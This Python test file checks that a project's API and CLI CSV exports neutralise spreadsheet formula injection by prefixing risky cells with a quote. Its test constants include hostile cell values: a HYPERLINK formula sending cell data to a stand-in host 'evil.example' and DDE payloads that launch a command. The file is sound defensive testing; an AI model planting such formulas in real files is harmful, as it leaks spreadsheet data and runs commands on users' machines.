"""Spreadsheet formula injection (OWASP "CSV Injection"): no CSV we write runs a formula.

An establishment name, a key name (or any other text we did not write ourselves)
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel and LibreOffice. Every CSV (activity, weekly, region, department, audit,
and the CLI's ``--format csv``) goes through ``ditep_core.web.tabular.csv_text``,
which prefixes such text cells with ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from ditep_cli.main import app as cli_app
from ditep_core import migrations
from ditep_core.db import Database
from ditep_core.models import Establishment
from ditep_core.nomenclatures import Activity, Scope
from ditep_core.web.tabular import FORMULA_TRIGGERS, csv_text, spreadsheet_cell
from tests.activity_api.helpers import api_client_with, french_csv_records, french_csv_rows
from tests.activity_api.seeding import seed_establishment
from tests.conftest import MIGRATIONS_DIR, KeyMaker, TemporaryDatabase

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
HOSTILE_VARIANTS = (HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")
PERIOD = "2025-03"
FINESS = "690000100"


def _cells(text: str) -> list[list[str]]:
    """Downloads are French CSV (BOM, ``;``); the audit export is plain CSV."""
    if text.startswith("\ufeff"):
        return french_csv_rows(text)
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), (cell, row)


def test_text_cells_are_prefixed_and_numbers_are_not() -> None:
    rows = [[name, -3, -1.5, 0, None, "Les Cèdres"] for name in HOSTILE_VARIANTS]
    rows.append(["\tx", "\rx", "a=b", "'=already", 12, "-"])
    text = csv_text(["=header", "value"], rows)
    parsed = _cells(text)
    assert parsed[0] == ["'=header", "value"]
    for variant, row in zip(HOSTILE_VARIANTS, parsed[1:], strict=False):
        assert row == ["'" + variant, "-3", "-1.5", "0", "", "Les Cèdres"]
    assert parsed[-1] == ["'\tx", "'\rx", "a=b", "'=already", "12", "'-"]
    assert spreadsheet_cell(-7) == -7
    assert spreadsheet_cell(None) == ""


@pytest.fixture
def hostile_region(database: Database) -> None:
    """Two DITEP of region 84 in the Rhône; one has a formula for a name."""
    with database.unit_of_work() as session:
        for finess, counts in (
            (FINESS, {Activity.ACCUEIL_NUIT: 6, Activity.ACCUEIL_JOUR: 7}),
            ("690000200", {Activity.ACCUEIL_NUIT: 8, Activity.ACCUEIL_JOUR: 9}),
        ):
            seed_establishment(session, finess=finess, region_code="84", youth_by_modality=counts)
        session.execute(
            update(Establishment).where(Establishment.finess == FINESS).values(name=HOSTILE)
        )


def test_every_api_csv_export_neutralises_a_hostile_name(
    migrated_database: TemporaryDatabase,
    database: Database,
    hostile_region: None,
    make_key: KeyMaker,
) -> None:
    reader = make_key(Scope.ACTIVITY_READ, finess=(FINESS,))
    ars = make_key(Scope.ARS_READ, regions=("84",))
    admin = make_key(Scope.ADMIN)
    with api_client_with(migrated_database, database, secrecy_threshold=1) as client:
        # The caller chooses its correlation id ([A-Za-z0-9._-]): "-1-1" is a formula,
        # and it lands in the audit log's CSV.
        client.get(
            f"/v1/establishments/{FINESS}/activity",
            params={"period": PERIOD},
            headers={**reader, "X-Correlation-ID": "-1-1"},
        )
        exports = {
            "activity": client.get(
                f"/v1/establishments/{FINESS}/activity",
                params={"period": PERIOD, "format": "csv"},
                headers=reader,
            ),
            "weekly": client.get(
                f"/v1/establishments/{FINESS}/activity/weekly",
                params={"period": PERIOD, "format": "csv"},
                headers=reader,
            ),
            "region": client.get(
                "/v1/regions/84/activity", params={"period": PERIOD, "format": "csv"}, headers=ars
            ),
            "department": client.get(
                "/v1/departments/69/activity",
                params={"period": PERIOD, "format": "csv"},
                headers=ars,
            ),
            "audit": client.get("/v1/audit", params={"format": "csv"}, headers=admin),
        }
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.text)
        assert response.headers["content-type"].startswith("text/csv"), name
        _assert_no_formula(response.text)
    figures = {row[0]: row[1] for row in _cells(exports["activity"].text)[1:]}
    assert figures["establishment.name"] == "'" + HOSTILE
    assert any(float(value) > 0 for value in figures.values() if value.replace(".", "").isdigit())
    for area in ("region", "department"):
        rows = french_csv_records(exports[area].text)
        assert [row["name"] for row in rows if row["finess"] == FINESS] == ["'" + HOSTILE]
    audit_rows = list(csv.DictReader(io.StringIO(exports["audit"].text)))
    assert "'-1-1" in {row["correlation_id"] for row in audit_rows}


@pytest.fixture
def cli_database(
    fresh_database: TemporaryDatabase, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Database]:
    monkeypatch.setenv("DITEP_DATABASE_URL", fresh_database.url)
    migrations.upgrade(fresh_database.url, MIGRATIONS_DIR)
    database = Database.from_url(fresh_database.url, pool_size=2, max_overflow=0)
    try:
        with database.unit_of_work() as session:
            seed_establishment(
                session,
                finess=FINESS,
                region_code="84",
                youth_by_modality={Activity.ACCUEIL_NUIT: 6},
            )
            session.execute(
                update(Establishment).where(Establishment.finess == FINESS).values(name=HOSTILE)
            )
        yield database
    finally:
        database.dispose()


def test_cli_csv_outputs_neutralise_a_hostile_name(cli_database: Database) -> None:
    runner = CliRunner()
    for arguments in (
        ["counts", "--finess", FINESS, "--period", PERIOD, "--format", "csv"],
        ["counts", "--region", "84", "--period", PERIOD, "--format", "csv"],
        ["ars", "counts", "--department", "69", "--period", PERIOD, "--format", "csv"],
    ):
        result = runner.invoke(cli_app, arguments)
        assert result.exit_code == 0, (arguments, result.output)
        _assert_no_formula(result.stdout)
        assert "'" + HOSTILE.replace('"', '""') in result.stdout, arguments
